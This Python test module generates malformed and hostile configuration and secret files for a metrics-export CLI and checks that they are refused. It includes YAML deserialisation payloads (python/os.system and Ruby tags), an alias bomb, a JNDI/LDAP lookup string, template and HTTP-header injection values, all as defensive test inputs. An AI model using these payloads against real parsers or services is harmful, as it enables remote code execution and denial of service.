"""Files that a person hands over: settings, objectives, lists, keys, and the facts of a report."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from functools import partial
from typing import TYPE_CHECKING, Any, Final

from lakehouse.slo.openslo import objective_files
from tests.hostile import rooms
from tests.hostile.case import EITHER, REFUSED, SECRET, TAKEN, Case, Codes, Command, Room
from tests.hostile.serving import configured, page, serving, settings

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

_DEEP: Final = 5_000
_BOMB: Final = "".join(
    f"{chr(98 + level)}: &{chr(98 + level)} [{', '.join([f'*{chr(97 + level)}'] * 9)}]\n"
    for level in range(9)
)


def _text(text: str) -> Callable[[Path, str], object]:
    return lambda file, _: file.write_text(text, "utf-8")


def _raw(raw: bytes) -> Callable[[Path, str], object]:
    return lambda file, _: file.write_bytes(raw)


def _before(text: str) -> Callable[[Path, str], object]:
    return lambda file, valid: file.write_text(text + valid, "utf-8")


def _after(text: str) -> Callable[[Path, str], object]:
    return lambda file, valid: file.write_text(f"{valid}\n{text}\n", "utf-8")


def _link(target: str) -> Callable[[Path, str], object]:
    return lambda file, _: file.symlink_to(target)


def _sparse(file: Path, valid: str) -> None:
    file.write_text(valid, "utf-8")
    os.truncate(file, 1 << 30)


def _twice(file: Path, valid: str) -> None:
    """The first key stands there again, with nothing in it."""
    first = next(line for line in valid.splitlines() if line and line[0] not in "#{[")
    key = first.lstrip("- ").partition(":")[0]
    again = f"  {key}: null" if first.startswith("-") else f"{key}: null"
    file.write_text(f"{valid.rstrip()}\n{again}\n", "utf-8")


CONTENTS: Final[dict[str, tuple[Callable[[Path, str], object], Codes]]] = {
    "valid": (_before(""), TAKEN),
    "byte-order mark": (lambda file, valid: file.write_text(f"\ufeff{valid}", "utf-8"), TAKEN),
    "CRLF": (lambda file, valid: file.write_bytes(valid.replace("\n", "\r\n").encode()), TAKEN),
    "empty": (_text(""), EITHER),
    "deep lists": (_text("a: " + "[" * _DEEP), REFUSED),
    "deep closed lists": (_text("a: " + "[" * _DEEP + "]" * _DEEP), REFUSED),
    "deep maps": (_text("{a: " * _DEEP), REFUSED),
    "deep blocks": (_text("".join(" " * one + "a:\n" for one in range(1_000))), REFUSED),
    "duplicate key": (_twice, REFUSED),
    "alias bomb": (_text(f"a: &a [x, x, x, x, x, x, x, x, x]\n{_BOMB}"), REFUSED),
    "alias of itself": (_text("a: &a [*a]\n"), REFUSED),
    "python tag": (_text("a: !!python/object/apply:os.system ['touch @RAN@']\n"), REFUSED),
    "python name": (_text("a: !!python/name:os.system\n"), REFUSED),
    "other tag": (_text("a: !ruby/object:Gem::Installer {i: x}\n"), REFUSED),
    "binary tag": (_text("a: !!binary aGVsbG8=\n"), REFUSED),
    "impossible date": (_text("a: 2026-99-99\n"), REFUSED),
    "impossible time": (_text("a: 2026-11-28T25:61:61Z\n"), REFUSED),
    "not a number": (_text("a: .nan\n"), REFUSED),
    "infinity": (_text("a: 1e400\nb: -.inf\n"), REFUSED),
    "huge integer": (_text(f"a: {'9' * 20_000}\n"), REFUSED),
    "odd numbers": (_text("a: 0o777\nb: 1:2:3\nc: 0x1_0\n"), REFUSED),
    "merge key": (_text("a: &a {b: 1}\nc: {<<: *a, <<: *a}\n"), REFUSED),
    "two documents": (_after("---\na: 1"), EITHER),
    "list": (_text("- a\n- b\n"), REFUSED),
    "scalar": (_text("hello\n"), REFUSED),
    "key of a list": (_text("? [a, b]\n: c\n"), REFUSED),
    "key of nothing": (_text("~: x\n"), REFUSED),
    "NUL": (_raw(b"a: \x00b\n"), REFUSED),
    "UTF-16": (lambda file, valid: file.write_bytes(valid.encode("utf-16")), EITHER),
    "Latin-1": (_raw(b"a: \xe9\xff\n"), REFUSED),
    "escape": (_raw(b"a: \x1b[2J\n"), REFUSED),
    "tabs": (_text("a:\n\t- b\n"), REFUSED),
    "unknown key": (_after("zz_unknown: '{{7*7}} ${jndi:ldap://@CANARY@/x}'"), REFUSED),
    "2 MB of comments": (_before("# x\n" * 500_000), EITHER),
    "2 MB of a list": (_text("a:\n" + "- b\n" * 500_000), REFUSED),
    "a gibibyte of nothing": (_sparse, REFUSED),
    "pipe": (lambda file, _: os.mkfifo(file), REFUSED),
    "directory": (lambda file, _: file.mkdir(), REFUSED),
    "endless": (_link("/dev/zero"), REFUSED),
    "full": (_link("/dev/full"), REFUSED),
    "link to itself": (lambda file, _: file.symlink_to(file.name), REFUSED),
    "missing": (lambda _, __: None, REFUSED),
}  # fmt: skip
"""What a YAML file can be instead of a valid one, and whether it must be refused."""
_MOST_TELLING: Final = (
    "valid", "byte-order mark", "deep lists", "deep maps", "duplicate key", "alias bomb", "python tag",
    "impossible date", "infinity", "huge integer", "NUL", "UTF-16", "Latin-1", "a gibibyte of nothing",
    "pipe", "directory", "endless", "link to itself",
)  # fmt: skip


@dataclass(frozen=True)
class Kind:
    """One kind of file.

    Attributes:
        name: What it is.
        file: Its name in the room.
        valid: Content that is taken.
        command: A command that reads it.
        lay: Lays out what else the command needs.
        contents: What it can be instead.
        lax: Contents about which this kind is free to decide.
    """

    name: str
    file: str
    valid: Callable[[Room], str]
    command: tuple[str, ...]
    lay: Callable[[Room], object] = lambda _: None
    contents: tuple[str, ...] = tuple(CONTENTS)
    lax: tuple[str, ...] = ()


def _agent(**changed: Any) -> Callable[[Room], object]:
    """A configuration that names the file."""

    def lay(room: Room) -> None:
        told = settings(room, serving(room, page("orders")))
        source = changed.get("source", {})
        told["source"]["prometheus"] |= source.get("prometheus", {})
        told |= {key: one for key, one in changed.items() if key != "source"}
        if "targets_file" in source:
            url = "http://{host}:{port}/metrics"
            told["source"] |= {"node": "auto", "targets_file": source["targets_file"]}
            told["source"]["prometheus"]["url"] = url
        if "lake" in changed:
            told["lake"] = {"path": str(room.path / "out/lake"), **changed["lake"]}
        configured(room, told)

    return lay


def _plain(text: str) -> Callable[[Room], str]:
    return lambda room: room.fill(text)


def _catalogue(_: Room) -> str:
    return (
        "family: acme\nvia: jmx\ncadence_seconds: 10\nroles: [broker]\nmetrics:\n  acme.calls:\n"
        "    object: acme:type=Calls\n    unit: '1'\n    description: Calls.\n"
    )


_CHECK: Final = ("jmxlake-agent", "check", "--config", "agent.yaml", "--offline")
_SCRAPE: Final = ("jmxlake-agent", "scrape", "--config", "agent.yaml")
_OPTIONS: Final = f"aws_access_key_id: AKIA\naws_secret_access_key: {SECRET}\n"
_SEND: Final = ("jmxlake", "send", "report.json", "--settings", "send.yaml", "--dry-run")
_INTERVAL: Final = "start: 2026-11-16T10:00:00Z\n    end: 2026-11-16T11:00:00Z\n"

KINDS: Final = (
    Kind("agent configuration", "agent.yaml", lambda room: json_free(settings(room)), _CHECK),
    Kind("catalogue file", "beans/acme.yaml", _catalogue, _CHECK, _agent(catalogue="beans"),
         _MOST_TELLING),
    Kind("exporter rules", "rules.yaml", _plain("rules:\n- pattern: '.*'\n"), _SCRAPE,
         _agent(source={"prometheus": {"rules_file": "rules.yaml"}}), _MOST_TELLING,
         lax=("valid", "byte-order mark", "duplicate key")),
    Kind("storage options of an agent", "options.yaml", _plain(_OPTIONS), _CHECK,
         _agent(lake={"options_file": "options.yaml"}), _MOST_TELLING,
         lax=_MOST_TELLING),
    Kind("targets", "targets.yaml", _plain("- targets: ['127.0.0.1:1']\n"), _SCRAPE,
         _agent(source={"targets_file": "targets.yaml"}), _MOST_TELLING,
         lax=("valid", "byte-order mark", "duplicate key")),
    Kind("objectives", "slo/slo.yaml", lambda _: _shipped(),
         ("jmxlake", "slo", "check", "slo/slo.yaml"), contents=_MOST_TELLING, lax=("two documents", "empty")),
    Kind("folder of objectives", "slo/slo.yaml", lambda _: _shipped(),
         ("jmxlake", "slo", "list", "slo"), contents=_MOST_TELLING),
    Kind("send settings", "send.yaml", _plain(
        "mail:\n  host: 127.0.0.1\n  security: none\n  from: k@example.org\n  to: [a@b.org]\n"
        "  username: reports\n  password_variable: HOSTILE_PASSWORD\n  attach: [json]\n"), _SEND, rooms.facts),
    Kind("storage options", "options.yaml", _plain(_OPTIONS),
         ("jmxlake", "export", "lake", "sla", "--format", "csv", "--options-file", "options.yaml"),
         rooms.lake, lax=("valid", "byte-order mark", "CRLF", "two documents", "unknown key",
                          "2 MB of comments")),
    Kind("owners", "owners.yaml", _plain("owners:\n  - team: payments\n    topics: ['*']\n"),
         (*rooms.REPORT, "--owners", "owners.yaml"), rooms.lake, _MOST_TELLING),
    Kind("maintenance", "planned.yaml", _plain(
        f"maintenance:\n  - {_INTERVAL}    reason: disks\n"),
         (*rooms.REPORT, "--maintenance", "planned.yaml"), rooms.lake, _MOST_TELLING),
    Kind("corrections", "agreed.yaml", _plain(
        f"corrections:\n  - {_INTERVAL}    reason: x\n    approved_by: y\n    ticket: z\n"),
         (*rooms.REPORT, "--corrections", "agreed.yaml"), rooms.lake, _MOST_TELLING),
)  # fmt: skip


def json_free(content: dict[str, Any]) -> str:
    """YAML with a key a line, so that lines can be added."""
    return "".join(f"{key}: {json.dumps(one)}\n" for key, one in content.items())


def _shipped() -> str:
    folder = objective_files.SHIPPED
    return (folder / "min-isr.yaml").read_text("utf-8")


def cases() -> Iterator[Case]:
    """Each kind of file with each content, and files that hold one secret."""
    for kind in KINDS:
        for name in kind.contents:
            make, codes = CONTENTS[name]
            lay = partial(_lay, kind=kind, make=make)
            command = Command(kind.command, EITHER if name in kind.lax else codes, name=kind.name)
            yield Case("files", f"{kind.name}: {name}", lay, (command,))
    yield from _secrets()


def _lay(room: Room, kind: Kind, make: Callable[[Path, str], object]) -> None:
    kind.lay(room)
    file = room.path / kind.file
    file.parent.mkdir(parents=True, exist_ok=True)
    make(file, kind.valid(room))
    if file.is_file() and file.stat().st_size < 1 << 20 and not file.is_symlink():
        raw = file.read_bytes()
        for mark in ("@RAN@", "@CANARY@"):
            raw = raw.replace(mark.encode(), room.fill(mark).encode())
        file.write_bytes(raw)


_SECRETS: Final[dict[str, Callable[[Path, str], object]]] = {
    "valid": _text(f"{SECRET}\n"),
    "header": _text(f"{SECRET}\r\nX-Evil: 1\r\n\r\nGET / HTTP/1.1"),
    "NUL": _text(f"{SECRET}\x00x"),
    "Latin-1": _raw(SECRET.encode() + b"\xff\xfe"),
    "empty": _text(""),
    "long": _text(SECRET * 100_000),
    "lines": _text(f"monitor {SECRET}\nmonitor {SECRET}\n" * 1000),
    "pipe": lambda file, _: os.mkfifo(file),
    "directory": lambda file, _: file.mkdir(),
    "endless": _link("/dev/zero"),
    "full": _link("/dev/full"),
    "link to itself": lambda file, _: file.symlink_to(file.name),
    "a gibibyte of nothing": _sparse,
    "readable by all": lambda file, _: (file.write_text(SECRET), file.chmod(0o644)),
}  # fmt: skip


_TAKEN: Final = ("valid", "lines", "long", "header", "readable by all")
"""A password is the first line alone, and the folder of an input is private."""


def _secrets() -> Iterator[Case]:
    """A password file of an exporter, and the address of a chat."""
    for name, make in _SECRETS.items():
        for kind in ("exporter", "webhook"):
            lay = partial(_lay_secret, kind=kind, make=make)
            words = _SCRAPE if kind == "exporter" else _SEND[:-1]
            codes = EITHER if kind == "exporter" and name in _TAKEN else REFUSED
            yield Case("files", f"secret of {kind}: {name}", lay, (Command(words, codes),))


def _lay_secret(room: Room, kind: str, make: Callable[[Path, str], object]) -> None:
    file = room.path / "secret"
    make(file, "")
    if file.is_file() and not file.is_symlink() and file.stat().st_mode & 0o777 != 0o644:
        file.chmod(0o600)
    if kind == "exporter":
        source = {"prometheus": {"user": "monitor", "password_file": "secret"}}
        _agent(source=source)(room)
        return
    rooms.facts(room)
    mail = {"host": "127.0.0.1", "port": 1, "security": "none", "from": "k@example.org",
            "to": ["a@b.org"], "username": "u", "password_file": "secret"}  # fmt: skip
    told = {"mail": mail} if kind == "mail" else {"webhook": {"url_file": "secret"}}
    room.write("send.yaml", json.dumps(told))
